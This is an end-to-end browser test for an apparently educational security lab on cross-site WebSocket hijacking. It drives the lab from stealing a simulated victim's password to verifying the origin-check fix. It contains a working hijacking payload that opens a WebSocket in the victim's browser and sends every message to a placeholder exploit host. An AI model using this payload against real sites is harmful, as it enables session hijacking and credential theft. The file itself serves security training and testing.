import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { openPage } from './support/browser.ts';
import { labPage } from './support/lab-page.ts';
import { platformForFile } from './support/platform.ts';

const running = platformForFile();

describe('cross-site hijacking, from the first read to fixed', () => {
  it('is done in the page alone, under the platform’s own policy', async () => {
    const page = await openPage();
    const lab = labPage(page);
    const app = page.frameLocator('iframe[title="The lab’s page"]');
    await page.goto(`${running.origins.platform}/labs/practitioner/cross-site-hijacking`);

    await tab(page, 'App');
    await app.getByRole('link', { name: 'Chat', exact: true }).click();
    await app.getByText('Good evening').waitFor();
    await app.getByRole('textbox', { name: 'Your message' }).fill('Do you have an owl in blue?');
    await app.getByRole('button', { name: 'Send' }).click();
    await app.getByText('owl in blue').first().waitFor();
    const session = await ownSession(page);
    expect(session).not.toBe('');
    await page.getByRole('button', { name: 'Load a handshake with a place for your cookie' }).click();
    await lab.setHeader('Cookie', `session=${session}`);
    await lab.send();
    await page.getByRole('region', { name: 'Response' }).getByText('101').first().waitFor();
    await page.getByRole('button', { name: 'Load the opener into the Composer' }).click();
    await page.getByRole('button', { name: 'Send message' }).click();
    await lab.untilPassed('Ask for your own history');

    await lab.removeHeader('Cookie');
    await lab.send();
    const question = lab.section('Connect without a cookie');
    await question.getByRole('radio', { name: /with the origin of your page/ }).check();
    await question.getByRole('button', { name: 'Answer' }).click();
    await lab.untilPassed('Connect without a cookie');

    await page.getByRole('button', { name: 'Load a page that connects' }).click();
    await page.getByRole('button', { name: /deliver to Teo$/ }).click();
    await lab.untilPassed('Let Teo connect');
    const visit = page.getByRole('list', { name: /^What the victim’s browser did in visit/ });
    await visit.getByRole('row', { name: /^session sent/ }).waitFor();

    await page.getByRole('textbox', { name: 'Body' }).fill(thief);
    await page.getByRole('button', { name: /deliver to Teo$/ }).click();
    await lab.untilPassed('Carry it home');
    const line = page
      .getByRole('table', { name: /^Access log/ })
      .getByRole('row', { name: /carries password/ });
    const [, password = ''] = /password is (\w+)/.exec((await line.textContent()) ?? '') ?? [];
    expect(password).not.toBe('');

    await tab(page, 'App');
    await app.getByRole('link', { name: 'Sign in', exact: true }).click();
    await app.getByRole('textbox', { name: /name/i }).fill('teo');
    await app.getByLabel('Password').fill(password);
    await app.getByRole('button', { name: 'Sign in' }).click();
    await lab.untilPassed('Be Teo');
    await lab.untilCounted('5 of 5 steps');

    await page.getByRole('link', { name: 'Next: Fix it' }).click();
    const origin = page.getByRole('tabpanel', { name: 'Fix it' }).getByRole('group', { name: /origin/i });
    await origin.getByRole('radio', { name: /^Begins like ours/ }).check();
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.getByRole('heading', { name: 'It does not hold: an attack still succeeds.' }).waitFor();
    await page.getByText(/may begin like ours and go on/).waitFor();
    await origin.getByRole('radio', { name: /^Exactly ours/ }).check();
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.getByRole('heading', { name: /^It holds/ }).waitFor();
    await lab.untilCounted('5 of 5 steps, fixed');
    const rail = page.getByRole('navigation', { name: 'Steps' }).getByRole('listitem');
    await rail.last().filter({ hasText: /Fixed/ }).waitFor();
  });
});

const thief = `<script>
  const socket = new WebSocket('{{lab-ws}}/socket');
  socket.onopen = () => socket.send('{"type":"hello"}');
  socket.onmessage = ({ data }) =>
    fetch('{{exploit}}/log?' + encodeURIComponent(data), { mode: 'no-cors' });
</script>`;

async function tab(page: Page, name: string): Promise<void> {
  await page.getByRole('tab', { name: new RegExp(`^${name}`) }).click();
}

/** The value of the learner's own cookie, read where a learner reads it: in the handshake of the lab's page. */
async function ownSession(page: Page): Promise<string> {
  await tab(page, 'Timeline');
  await page.getByRole('button', { name: 'Filter' }).click();
  await page.getByRole('combobox', { name: 'Kind' }).selectOption('Handshakes');
  await page
    .getByRole('row', { name: /browser.*handshake/ })
    .first()
    .click();
  const request = await page.getByLabel('Request', { exact: true }).textContent();
  return /session=(\w+)/.exec(request ?? '')?.[1] ?? '';
}
